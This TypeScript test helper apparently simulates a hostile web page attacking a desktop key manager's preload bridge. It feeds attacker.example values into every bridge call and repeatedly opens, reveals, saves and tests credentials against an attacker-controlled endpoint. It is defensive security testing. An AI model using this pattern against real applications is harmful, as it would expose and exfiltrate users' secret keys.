import { Buffer } from 'node:buffer';
import { encryptWithPassphrase } from '../../../main/handover/age-file.ts';
import { formatHandedKey } from '../../../main/handover/handed-key.ts';
import { LITTLE_WORK } from '../parts/little-work.ts';
import { readBridgeSchema } from './bridge-schema.ts';

export const ATTACKER = 'attacker.example';
const PASSPHRASE = 'a page knows this one';

/** Values that a page could send for each type of the bridge's schema. A type that is missing here gets a text and an object. */
const values: Readonly<Record<string, readonly unknown[]>> = {
  boolean: [true, false],
  ProfileSource: ['standard', 'chosen'],
  SignInRequest: [{ source: 'standard', profile: 'ADMIN', passphrase: null }],
  UserQuery: [
    { domainId: null, text: ATTACKER, cursor: null },
    { domainId: ATTACKER, text: '', cursor: `https://${ATTACKER}/` },
  ],
  SearchText: [ATTACKER],
  Owner: [{ kind: 'self' }, { kind: 'user', domainId: ATTACKER, id: ATTACKER, ocid: ATTACKER }],
  GenerateRequest: [{ name: ATTACKER, description: null, expiresOn: null }],
  Person: [{ userOcid: ATTACKER, userName: `grace@${ATTACKER}`, displayName: ATTACKER, email: `grace@${ATTACKER}` }],
  HandoverRequest: [{ handle: 'HANDLE', lock: { kind: 'passphrase' }, note: `https://${ATTACKER}/` }],
  KeySource: [
    { kind: 'open', handle: 'HANDLE' },
    { kind: 'saved', id: 'KEPT' },
  ],
  EndpointSource: [{ kind: 'account' }, { kind: 'open', handle: 'HANDLE' }, { kind: 'saved', id: 'KEPT' }],
  Region: ['attacker-example-1', 'eu-frankfurt-1'],
  RegionChoice: [null, 'attacker-example-1'],
  SecretHandle: ['HANDLE'],
  SavedKeyId: ['KEPT'],
  ToolName: ['default', 'attacker'],
  ProfileRequest: ['aws', 'rclone', 's3cmd'].map((tool) => ({
    source: { kind: 'open', handle: 'HANDLE' },
    tool,
    name: 'default',
    region: null,
    bucket: null,
  })),
  TypedKey: [{ name: ATTACKER, accessKey: '4f1c', secretKey: 'c2VjcmV0' }],
  SettingsChange: [{ contentProtection: false, lockMinutes: 0 }],
  SnippetText: [
    `[DEFAULT]\nuser=ocid1.user.oc1..a\ntenancy=ocid1.tenancy.oc1..a\nregion=eu-frankfurt-1\nfingerprint=OURS\nkeydesk_endpoint=https://${ATTACKER}`,
  ],
  Text: [`https://${ATTACKER}/`],
};

/** Calls that would end the attack: a locked or signed-out Keydesk answers nothing. `Cancel` ends the attack's own calls. */
const left = [
  'Accounts.Lock',
  'Accounts.SignOut',
  'Accounts.SwitchAccount',
  'Accounts.SignInToSample',
  'Directory.Cancel',
];

/** Everything that `attackBridge` needs. The page's own handed-over file names the attacker's endpoint. */
export async function prepareAttack(ms: number) {
  const key = {
    keyName: ATTACKER,
    user: ATTACKER,
    tenancy: null,
    place: { namespace: 'attacker', region: 'eu-frankfurt-1', endpoint: `https://s3.${ATTACKER}/c2VjcmV0` },
    accessKey: '4f1c0e77b2d84c0e9f3a5b6c7d8e9f0a1b2c9ab2',
    date: '2026-11-22T21:40:05.123Z',
    sender: null,
    note: '',
  };
  const content = formatHandedKey(key, Buffer.from('8fYq+w/3ZxQm1b7Hn0KcV5tR2uE9sLdP4aGjXiWoB6M='));
  const file = await encryptWithPassphrase(Buffer.from(PASSPHRASE), content, LITTLE_WORK);
  const calls = readBridgeSchema()
    .calls.filter(({ part, name }) => !left.includes(`${part}.${name}`))
    .map(({ part, name, args }) => ({
      part,
      name,
      args: args.map(({ type }) => values[type] ?? [ATTACKER, { kind: ATTACKER }]),
    }));
  return { ms, calls, passphrase: PASSPHRASE, file: { name: 'key.age', base64: file.toString('base64') } };
}

/**
 * The attack of a hostile page on the bridge. Runs in the page. For `ms` milliseconds it opens its own file, reveals, keeps and tests
 * the open key, and makes every call. Returns how often it got each key open, and the results of the tests.
 */
export async function attackBridge({ ms, calls, passphrase, file }: Awaited<ReturnType<typeof prepareAttack>>) {
  type Part = Record<string, ((...list: unknown[]) => Promise<unknown>) & { getState(): Promise<unknown> }>;
  const bridge = Reflect.get(window, 'keydesk') as Record<string, Part>;
  const wait = (time: number) => new Promise((resolve) => setTimeout(resolve, time));
  const call = (part: string, name: string, ...list: unknown[]) =>
    Promise.race([bridge[part]?.[name]?.(...list).catch(() => null), wait(1000)]);
  const stateOf = (part: string, store: string) =>
    bridge[part]?.[store]?.getState() as Promise<Record<string, unknown>>;
  const until = Date.now() + ms;
  let [opened, kept, tests] = [0, 0, 0];

  for (let round = 0; round === 0 || Date.now() < until; round += 1) {
    await call('Receiving', 'ReceiveFile', file);
    await call('Receiving', 'OpenIncoming', passphrase);
    const { secret } = (await stateOf('Secrets', 'openStore')) as { secret: { handle: string } | null };
    const handle = secret?.handle ?? crypto.randomUUID();
    if (secret) opened += 1;
    await call('Secrets', 'RevealSecret', handle);
    await call('Usage', 'SaveKey', handle, 'attacker', null);
    const { keys } = (await stateOf('Usage', 'savedKeysStore')) as { keys: { id: string }[] };
    const id = keys[0]?.id ?? crypto.randomUUID();
    if (keys.length > 0) kept += 1;
    for (const source of [
      { kind: 'open', handle },
      { kind: 'saved', id },
    ]) {
      await call('Usage', 'TestKey', source, null);
      const { kind } = await stateOf('Usage', 'readinessStore');
      if (kind !== 'idle') tests += 1;
    }
    const { fingerprint = '' } = (await stateOf('SetUp', 'progressStore')) as { fingerprint?: string };
    for (const { part, name, args } of calls) {
      const list = args.map((each) => {
        const value = each[(round + name.length) % each.length];
        return JSON.parse(
          JSON.stringify(value).replaceAll('HANDLE', handle).replaceAll('KEPT', id).replaceAll('OURS', fingerprint),
        );
      });
      await call(part, name, ...list);
    }
    await call('Secrets', 'CloseSecret', handle, true);
  }
  return { opened, kept, tests };
}
